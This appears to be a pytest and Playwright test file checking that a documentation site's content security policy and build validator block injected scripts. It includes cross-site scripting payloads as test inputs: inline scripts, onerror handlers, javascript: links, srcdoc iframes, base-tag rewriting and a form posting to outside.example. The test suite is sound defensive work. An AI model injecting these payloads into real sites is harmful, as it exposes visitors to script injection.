"""The content security policy in Chromium: the site works under it, and what somebody puts into a page does not run."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import expect

from generator.mkdocs_plugin import policy
from tests.browser import RecordedPage
from tests.conftest import ROOT
from tests.faults import project_in, run
from tests.search_box import ask, results
from tests.web.kinds import EVERY_KIND, FLAGSHIP

INJECT = """async () => {
  window.hits = [];
  const put = (html) => document.body.insertAdjacentHTML("beforeend", html);
  const script = document.createElement("script");
  script.textContent = "window.hits.push('inline')";
  document.body.append(script);
  const data = document.createElement("script");
  data.src = "data:text/javascript,window.hits.push('data')";
  document.body.append(data);
  const foreign = document.createElement("script");
  foreign.src = "https://outside.example/x.js";
  document.body.append(foreign);
  put(`<img src="nowhere.png" onerror="window.hits.push('handler')">`);
  put(`<img src="https://outside.example/pixel.png">`);
  put(`<iframe srcdoc="<script>parent.hits.push('frame')<\\/script>"></iframe>`);
  put(`<iframe src="https://outside.example/"></iframe>`);
  put(`<object data="nowhere.swf"></object>`);
  put(`<a id="evil" href="javascript:window.hits.push('link')">x</a>`);
  document.getElementById("evil").click();
  put(`<form id="post" action="https://outside.example/"><input name="q"></form>`);
  document.getElementById("post").submit();
  setTimeout("window.hits.push('eval')", 1);
  const base = document.createElement("base");
  base.href = "https://outside.example/";
  document.head.append(base);
  await new Promise((done) => setTimeout(done, 500));
  return [window.hits, document.baseURI];
}"""


@pytest.mark.parametrize("kind", EVERY_KIND)
def test_every_kind_of_page_has_its_policy_and_breaks_no_rule(
    page: RecordedPage, address_of: Callable[[str], str], kind: str
) -> None:
    page.goto(address_of(kind))
    page.tab.evaluate("() => document.querySelectorAll('details').forEach((one) => { one.open = true; })")
    page.tab.wait_for_load_state("networkidle")
    policy = page.tab.locator("meta[http-equiv=Content-Security-Policy]")
    assert policy.count() == 1
    scripts = next(one for one in (policy.get_attribute("content") or "").split("; ") if one.startswith("script-src"))
    assert "unsafe-inline" not in scripts and "'unsafe-eval'" not in scripts
    assert [error for error in page.console_errors if "404" not in error] == []


@pytest.mark.parametrize("address", [FLAGSHIP, "guide/drafting/"])
def test_nothing_that_is_put_into_a_page_runs_or_goes_elsewhere(
    page: RecordedPage, served_site: str, address: str
) -> None:
    stopped: dict[str, str | None] = {}
    page.tab.on("requestfailed", lambda request: stopped.update({request.url: request.failure}))
    page.goto(served_site + address)
    hits, base = page.tab.evaluate(INJECT)
    assert hits == []
    assert base == served_site + address
    assert page.tab.url == served_site + address
    assert {stopped.get(url) for url in page.foreign_requests(served_site)} <= {"csp"}
    assert len([error for error in page.console_errors if "Content Security Policy" in error]) >= 8


def test_colours_drawer_search_and_filters_work_under_the_policy(page: RecordedPage, served_site: str) -> None:
    page.goto(served_site + "quotes/")
    scheme = page.tab.locator("body").get_attribute("data-md-color-scheme")
    page.tab.locator("[data-b-palette]").click()
    assert page.tab.locator("body").get_attribute("data-md-color-scheme") != scheme
    ask(page.tab, "Taiwan")
    expect(results(page.tab).first).to_be_visible()
    page.tab.keyboard.press("Escape")
    page.goto(served_site + "quotes/?actor=xi-jinping")
    assert page.console_errors == []


def built(desk: Path) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "mkdocs", "build", "-d", str(desk / "site")]
    return subprocess.run(command, cwd=desk, capture_output=True, text=True)


@pytest.mark.site
@pytest.mark.parametrize(
    ("text", "fault"),
    [
        ("<script>alert(1)</script>", "an inline script that is not the theme's"),
        ('<p onclick="alert(1)">x</p>', "an event handler: <p onclick="),
        ("[x](javascript:alert(1))", "an address that runs a script: <a href="),
        ("![x](https://outside.example/pixel.png)", "a file of another site: <img "),
    ],
)
def test_build_fails_on_a_written_page_that_runs_or_loads(desk: Path, text: str, fault: str) -> None:
    file = desk / "docs/about.md"
    file.write_text(f"{file.read_text(encoding='utf-8')}\n\n{text}\n", encoding="utf-8")
    done = built(desk)
    assert done.returncode == 1
    assert f"docs/about.md: {fault}" in done.stderr
    assert "nothing is published" in done.stderr
    assert not any(desk.glob("site/*"))


WORDS = """</title></a>"><script>alert(1)</script>"""


@pytest.mark.site
@pytest.mark.parametrize("front", ["title", "description", "author", "image", "date"])
def test_script_in_the_front_matter_of_a_written_page_does_not_run(front: str, tmp_path: Path) -> None:
    for name in ("plain", "own"):
        project = project_in(tmp_path / name)
        if name == "own":
            shutil.copytree(ROOT / "generator/theme", project / "theme")
            file = project / "mkdocs.yml"
            text = file.read_text(encoding="utf-8").replace("name: material,", "name: material, custom_dir: theme,")
            file.write_text(text, encoding="utf-8")
        (project / "docs/about.md").write_text(
            f"---\nkind: briefing\n{front}: {json.dumps(WORDS)}\n---\n# A\n", "utf-8"
        )
        done = run(project, "mkdocs", "build")
        if done.returncode:
            assert "docs/about.md: an inline script that is not the theme's" in done.stderr
            continue
        assert "alert(1)</script>" not in (project / "site/about/index.html").read_text(encoding="utf-8")


@pytest.mark.site
@pytest.mark.parametrize("key", ["site_name", "site_description", "site_author", "copyright", "site_url"])
def test_script_in_mkdocs_yml_does_not_get_a_hash(key: str, tmp_path: Path) -> None:
    project = project_in(tmp_path)
    file = project / "mkdocs.yml"
    lines = [line for line in file.read_text(encoding="utf-8").split("\n") if not line.startswith(f"{key}:")]
    value = f"https://desk.example/{WORDS}" if key == "site_url" else WORDS
    file.write_text("\n".join([*lines, f"{key}: {json.dumps(value)}"]), encoding="utf-8")
    done = run(project, "mkdocs", "build")
    assert done.returncode == 1
    assert "an inline script that is not the theme's" in done.stderr


@pytest.mark.site
def test_script_that_another_plugin_puts_in_is_the_site_s_own(tmp_path: Path) -> None:
    project = project_in(tmp_path)
    hook = "def on_post_page(output, page, config):\n    return output.replace('</body>', '<script>one()</script>')\n"
    (project / "hook.py").write_text(hook, encoding="utf-8")
    with (project / "mkdocs.yml").open("a", encoding="utf-8") as stream:
        stream.write("\nhooks: [hook.py]\n")
    done = run(project, "mkdocs", "build")
    assert done.returncode == 0, done.stderr
    assert policy.hashed("one()") in (project / "site/about/index.html").read_text(encoding="utf-8")


@pytest.mark.site
def test_build_fails_on_a_template_that_does_not_escape(desk: Path, tmp_path: Path) -> None:
    shutil.copytree(ROOT / "generator", tmp_path / "code/generator")
    template = tmp_path / "code/generator/templates/briefing.md.j2"
    text = template.read_text(encoding="utf-8")
    template.write_text(text.replace("{{ b.bottom_line }}", "{{ b.bottom_line|safe }}"), encoding="utf-8")
    assert template.read_text(encoding="utf-8") != text
    briefing = desk / "briefings/2025-11-24-xi-trump-call.yml"
    lines = briefing.read_text(encoding="utf-8").split("\n")
    at = next(number for number, line in enumerate(lines) if line.startswith("bottom_line:"))
    lines[at] = "bottom_line: <img src=x onerror=alert(1)>"
    briefing.write_text("\n".join(lines), encoding="utf-8")
    command = [sys.executable, "-c", "from mkdocs.__main__ import cli; cli()", "build", "-d", str(desk / "site")]
    environment = {"PYTHONPATH": str(tmp_path / "code"), "PATH": "/usr/bin:/bin", "NO_MKDOCS_2_WARNING": "1"}
    done = subprocess.run(command, cwd=desk, capture_output=True, text=True, env=environment)
    assert done.returncode == 1, done.stderr
    assert "briefings/2025-11-24-xi-trump-call.yml: an event handler: <img src=x onerror=alert(1)>" in done.stderr
